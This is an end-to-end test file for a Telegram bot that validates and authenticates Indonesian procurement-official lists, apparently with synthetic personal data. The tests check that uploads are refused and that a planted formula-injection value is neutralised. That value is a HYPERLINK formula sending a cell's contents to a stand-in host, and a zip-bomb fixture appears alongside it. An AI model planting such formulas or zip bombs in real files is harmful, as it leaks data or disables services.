import ExcelJS from 'exceljs';
import type { App } from '../../src/app.js';
import type { Instance } from '../../src/core/engine/types.js';
import { PPK_COLUMNS } from '../../src/files/ppk/columns.js';
import { inviteCode } from '../support/app-rig.js';
import { PPK_HEADER, ppkCsv } from '../support/ppk-fixtures.js';
import {
  hasDocument,
  hasText,
  startAppOnStandIns,
  TELEGRAM_TEST_TOKEN,
  telegramPeople,
} from '../support/e2e/index.js';
import { inlineButtons, TelegramBotApiStandIn, type SimUser } from '../support/telegram/index.js';
import { buildZip, deflatedZeros, xlsxMarkerEntries } from '../unit/files/ppk-fixtures.js';

const people: Record<string, SimUser> = {
  fajar: { id: 6101, first_name: 'Fajar', language_code: 'id' },
  dewi: { id: 6102, first_name: 'Dewi', language_code: 'id' },
  rina: { id: 6103, first_name: 'Rina', language_code: 'id' },
};

const BUDI = [
  '198503152010121002',
  'Budi Santoso',
  'Kepala Bagian Umum',
  'PPK',
  'budi.santoso@kemendagri.go.id',
  '0812-3456-7890',
  'Biro Umum',
  'Pengadaan Laptop Kantor',
  'Rp 1.500.000.000',
  '2027',
  'SK-001/BU/2027',
];
const SITI = [
  '199001202015032001',
  'Siti Aminah',
  'Analis Pengadaan',
  'Pokja Pemilihan',
  'siti.aminah@kemendagri.go.id',
  '+6281298765432',
  'Biro Umum',
  'Pengadaan Laptop Kantor',
  '1500000000',
  '2027',
  'SK-002/BU/2027',
];
const AGUS = [
  '198807072012121003',
  'Agus Wibowo',
  'Pranata Komputer',
  'Pejabat Pengadaan',
  'agus.wibowo@kemendagri.go.id',
  '0857-1234-5678',
  'Biro Umum',
  'Pemeliharaan Gedung Kantor',
  '750.000.000',
  '2027',
  'SK-003/BU/2027',
];
const HENDRA = [
  '197002021995031001',
  'Drs. Hendra Gunawan',
  'Kepala Biro Umum',
  'KPA',
  'hendra.gunawan@kemendagri.go.id',
  '0811 234 567',
  'Biro Umum',
  '',
  '',
  '2027',
  'SK-004/BU/2027',
];
/** A name a spreadsheet would run as a formula if it were written as it is. */
const PLANTED = '=HYPERLINK("http://contoh.invalid/?d="&B2,"Klik")';

/** An XLSX the way people make one: ExcelJS, the header in another column order, text cells. */
async function xlsx(rows: string[][], order: number[] = PPK_HEADER.map((_, i) => i)): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Daftar PPK');
  sheet.addRow(order.map((i) => PPK_HEADER[i]));
  for (const row of rows) sheet.addRow(order.map((i) => row[i]));
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

async function readSheet(bytes: Buffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  workbook.worksheets[0]?.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe('PPK lists on Telegram, end to end (steps 5–7 and the register)', () => {
  const standIn = new TelegramBotApiStandIn({ token: TELEGRAM_TEST_TOKEN });
  const tg = telegramPeople(standIn, people, { timeoutMs: 10_000 });
  let app: App;

  beforeAll(async () => {
    app = await startAppOnStandIns({ telegram: { standIn } });
  });

  afterAll(async () => {
    await app?.stop();
    await standIn.stop();
  });

  /** Biro Umum's ULP asks for SPSE; the service (as the other performers would) brings it to step 5. */
  async function requestAtStep5(key: string): Promise<Instance> {
    const started = await app.service.start({
      flowId: 'spse-eproc',
      requesterId: 'ulp-biro-umum',
      subject: `Permohonan pemanfaatan SPSE (${key})`,
      channel: 'cli',
      idempotencyKey: key,
    });
    if (!started.ok) throw new Error(started.refusal.code);
    const steps = [
      { type: 'complete' as const },
      { type: 'dispose' as const, recipientIds: ['sari'], instructionId: 'tindak-lanjut' },
      { type: 'dispose' as const, recipientIds: ['dewi'], instructionId: 'pelajari-laporkan' },
    ];
    for (const [i, command] of steps.entries()) {
      const instance = (await app.service.get(started.instance.id)) as Instance;
      const run = instance.runs.find((r) => !r.endedAt);
      const result = await app.service.act({
        ...command,
        instanceId: instance.id,
        runId: run?.runId ?? '',
        actorId: run?.assigneeId ?? '',
        channel: 'cli',
        idempotencyKey: `${key}:${i}`,
      });
      if (!result.ok) throw new Error(result.refusal.code);
    }
    return (await app.service.get(started.instance.id)) as Instance;
  }

  const filesAtStep5 = async (id: string) =>
    ((await app.service.get(id)) as Instance).runs
      .filter((r) => r.stepId === 'input-data-ppk')
      .flatMap((r) => r.files);

  test('template, refused uploads, two versions, verification with a diff, authentication with a failure, the register', async () => {
    for (const id of Object.keys(people)) await tg.link(id, await inviteCode(app, id));

    // /templat sends the template as XLSX and CSV.
    let before = tg.lastId('fajar');
    tg.send('fajar', '/templat');
    await tg.next('fajar', hasText('Templat daftar PPK terlampir'), before);
    const templateXlsx = await tg.next('fajar', hasDocument('templat-daftar-ppk.xlsx'), before);
    const templateCsv = await tg.next('fajar', hasDocument('templat-daftar-ppk.csv'), before);
    expect((await readSheet(templateXlsx.document?.bytes ?? Buffer.alloc(0)))[0]).toEqual(
      PPK_COLUMNS.map((c) => c.header),
    );
    expect(templateCsv.document?.bytes.toString('utf8')).toContain('NIP,Nama,Jabatan,Peran');

    // Step 5 of the first request: the task offers the template.
    const first = await requestAtStep5('ppk-e2e-1');
    const entry = await tg.taskFor('fajar', 'Langkah 5/11');
    expect(entry.text).toContain('/templat');
    const untouched = ((await app.service.get(first.id)) as Instance).version;

    // An invalid XLSX: every error at once, in Indonesian; nothing changes.
    before = tg.lastId('fajar');
    const invalid = await xlsx([
      ['19850315201012100', ...BUDI.slice(1)],
      [
        SITI[0] ?? '',
        SITI[1] ?? '',
        SITI[2] ?? '',
        'Bendahara',
        'siti@',
        ...SITI.slice(5, 8),
        '1,5 M',
        ...SITI.slice(9),
      ],
      BUDI,
      BUDI,
    ]);
    tg.sendDocument('fajar', {
      fileName: 'daftar-ppk.xlsx',
      mimeType: 'application/vnd.ms-excel',
      bytes: invalid,
    });
    const errors = await tg.next('fajar', hasText('Berkas belum dapat diterima'), before);
    expect(errors.text).toContain('Ditemukan 5 kesalahan');
    expect(errors.text).toContain(
      'Baris 2, kolom “NIP”: NIP harus terdiri atas 18 angka; yang tertulis 17 angka.',
    );
    expect(errors.text).toContain('Baris 3, kolom “Peran”: Peran “Bendahara” tidak dikenal');
    expect(errors.text).toContain('Baris 3, kolom “Email”: Alamat email tidak valid.');
    expect(errors.text).toContain('Baris 3, kolom “Pagu Anggaran (Rp)”: Pagu tidak boleh disingkat');
    expect(errors.text).toContain('Baris 5, kolom “NIP”: Baris ini sama dengan baris 4');

    // A 25 MB file is refused before it is downloaded; a zip bomb is refused by its sizes, unpacked never.
    before = tg.lastId('fajar');
    tg.sendDocument('fajar', {
      fileName: 'besar.xlsx',
      mimeType: 'application/octet-stream',
      bytes: Buffer.from('PK'),
      fileSize: 25 * 1024 * 1024,
    });
    await tg.next('fajar', hasText('Berkas terlalu besar (25.0 MB). Batas unggah 20.0 MB.'), before);
    before = tg.lastId('fajar');
    const bomb = buildZip([
      ...xlsxMarkerEntries(),
      await deflatedZeros('xl/worksheets/sheet1.xml', 64 * 1024 * 1024),
    ]);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    tg.sendDocument('fajar', {
      fileName: 'daftar-ppk.xlsx',
      mimeType: 'application/octet-stream',
      bytes: bomb,
    });
    const bombReply = await tg.next('fajar', hasText('Berkas belum dapat diterima'), before);
    expect(bombReply.text).toContain('Demi keamanan, berkas ini ditolak.');
    const afterRefusals = (await app.service.get(first.id)) as Instance;
    expect(afterRefusals.version).toBe(untouched);
    expect(await filesAtStep5(first.id)).toEqual([]);

    // A valid CSV, then a valid XLSX (shuffled columns, a name with a planted formula): two versions.
    before = tg.lastId('fajar');
    tg.sendDocument('fajar', {
      fileName: 'daftar-ppk.csv',
      mimeType: 'text/csv',
      bytes: Buffer.from(ppkCsv([BUDI, SITI])),
    });
    const csvSummary = await tg.next('fajar', hasText('Daftar PPK valid dan siap diverifikasi'), before);
    expect(csvSummary.text).toContain('Total pagu anggaran: Rp 1.500.000.000');
    before = tg.lastId('fajar');
    const planted = [AGUS[0] ?? '', PLANTED, ...AGUS.slice(2)];
    const shuffled = [10, 3, 0, 1, 9, 8, 7, 6, 5, 4, 2];
    tg.sendDocument('fajar', {
      fileName: 'daftar-ppk-v2.xlsx',
      mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      bytes: await xlsx([BUDI, SITI, planted, HENDRA], shuffled),
    });
    const xlsxSummary = await tg.next('fajar', hasText('Daftar PPK valid dan siap diverifikasi'), before);
    expect(xlsxSummary.text).toContain('Jumlah baris: 4');
    expect(xlsxSummary.text).toContain('Total pagu anggaran: Rp 2.250.000.000');
    expect((await filesAtStep5(first.id)).map((f) => f.name)).toEqual([
      'daftar-ppk.csv',
      'daftar-ppk-v2.xlsx',
    ]);
    await tg.edited('fajar', entry, hasText('Berkas terlampir (2)'));
    tg.tap('fajar', entry, 'Selesai');

    // Step 6: Dewi sees version 2's summary; there is no earlier verified list; she approves.
    const verify = await tg.taskFor('dewi', 'Langkah 6/11');
    expect(verify.text).toContain('📎 Daftar PPK versi 2: daftar-ppk-v2.xlsx, diunggah oleh Fajar Nugroho');
    expect(verify.text).toContain('seluruh 4 baris merupakan data baru');
    tg.tap('dewi', verify, 'Setujui');

    // Step 7: one item per account. Siti's fails with a reason; the others are authenticated.
    let checklist = await tg.taskFor('fajar', 'Langkah 7/11');
    const items = inlineButtons(checklist.replyMarkup)
      .filter((b) => b.text.startsWith('☐'))
      .map((b) => b.text);
    expect(items).toEqual([
      '☐ 198503152010121002 · PPK · Pengadaan Laptop Kantor',
      '☐ 199001202015032001 · Pokja Pemilihan · Pengadaan Laptop Kantor',
      '☐ 198807072012121003 · Pejabat Pengadaan · Pemeliharaan Gedung Kantor',
      '☐ 197002021995031001 · KPA',
    ]);
    expect(inlineButtons(checklist.replyMarkup).filter((b) => b.text === '✖ Gagal')).toHaveLength(4);
    before = tg.lastId('fajar');
    tg.tapInRow('fajar', checklist, SITI[0] ?? '', 1);
    await tg.next('fajar', hasText('Tulis alasan kegagalan'), before);
    before = tg.lastId('fajar');
    tg.send('fajar', 'NIP belum terdaftar di SPSE');
    await tg.next('fajar', hasText('Butir ditandai gagal'), before);
    checklist = await tg.edited('fajar', checklist, hasText('gagal: NIP belum terdaftar di SPSE'));
    expect(checklist.text).toContain('Kemajuan: 0 dari 4 butir selesai, 1 gagal.');
    for (const nip of [BUDI[0], AGUS[0], HENDRA[0]]) {
      const done = (checklist.text ?? '').match(/Kemajuan: (\d+)/)?.[1];
      tg.tapInRow('fajar', checklist, nip ?? '', 0);
      if (nip === HENDRA[0]) break;
      checklist = await tg.edited(
        'fajar',
        checklist,
        (m) => !(m.text ?? '').includes(`Kemajuan: ${done ?? ''} dari`),
      );
    }
    await tg.edited('fajar', checklist, (m) => inlineButtons(m.replyMarkup).length === 0);

    // The authenticated list comes as XLSX: three accounts, the planted formula only text.
    const sent = await tg.next(
      'fajar',
      hasDocument(/^daftar-ppk-terotentikasi-biro-umum-\d{4}-\d{2}-\d{2}\.xlsx$/),
    );
    expect(sent.caption).toContain('3 akun; 1 akun gagal diotentikasi');
    const authenticated = await readSheet(sent.document?.bytes ?? Buffer.alloc(0));
    expect(authenticated.slice(1).map((r) => r[0])).toEqual([BUDI[0], AGUS[0], HENDRA[0]]);
    expect(authenticated[2]?.[1]).toBe(`'${PLANTED}`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(sent.document?.bytes as unknown as ArrayBuffer);
    expect(workbook.worksheets[0]?.getCell('B3').formula).toBeUndefined();

    // The register: whole for the verifier, masked for a colleague outside the request.
    before = tg.lastId('dewi');
    tg.send('dewi', '/register biro-umum');
    const full = await tg.next('dewi', hasText('Register SPSE — Biro Umum Sekretariat Jenderal'), before);
    expect(full.text).toContain('PPK (1):');
    expect(full.text).toContain('ULP / Pokja Pemilihan (1):');
    expect(full.text).toContain('Pengguna lain (user agency) (1):');
    expect(full.text).toContain('NIP 198503152010121002 · budi.santoso@kemendagri.go.id · 081234567890');
    expect(full.text).not.toContain(SITI[0]);
    before = tg.lastId('rina');
    tg.send('rina', '/register biro-umum');
    const masked = await tg.next('rina', hasText('Register SPSE — Biro Umum Sekretariat Jenderal'), before);
    expect(masked.text).toContain('NIP 1985••••••••••••02 · b•••@kemendagri.go.id · 0812•••••890');
    expect(masked.text).not.toContain('198503152010121002');
    expect(masked.text).toContain('disamarkan');

    // A second request for the same unit: step 6 shows what changed against the verified list.
    const second = await requestAtStep5('ppk-e2e-2');
    const entry2 = await tg.taskFor('fajar', `Permohonan pemanfaatan SPSE (ppk-e2e-2)`);
    // Fajar now has two tasks waiting for a file (step 8 of the first request): he picks this one.
    before = tg.lastId('fajar');
    tg.tap('fajar', entry2, 'Kirim berkas');
    await tg.next('fajar', hasText('Kirim berkasnya sekarang'), before);
    const changedSiti = [...SITI.slice(0, 4), 'siti.aminah2@kemendagri.go.id', ...SITI.slice(5)];
    before = tg.lastId('fajar');
    tg.sendDocument('fajar', {
      fileName: 'daftar-ppk-2027.csv',
      mimeType: 'text/csv',
      bytes: Buffer.from(ppkCsv([BUDI, changedSiti, planted])),
    });
    const secondSummary = await tg.next('fajar', hasText('Daftar PPK valid'), before);
    expect(secondSummary.text).toContain('0 baris baru, 1 baris dihapus, 1 baris berubah');
    await tg.edited('fajar', entry2, hasText('Berkas terlampir (1)'));
    tg.tap('fajar', entry2, 'Selesai');
    const verify2 = await tg.taskFor('dewi', '(ppk-e2e-2)');
    expect(verify2.text).toMatch(
      /Perbandingan dengan daftar terverifikasi .+: 0 baru, 1 dihapus, 1 berubah, 2 tetap\./,
    );
    expect(verify2.text).toContain('➖ Drs. Hendra Gunawan (197002021995031001) — KPA, paket –');
    expect(verify2.text).toContain(
      '✏️ Baris 3: Siti Aminah (199001202015032001) — Pokja Pemilihan: Email: siti.aminah@kemendagri.go.id → siti.aminah2@kemendagri.go.id',
    );
    expect(second.id).not.toBe(first.id);
  });
});
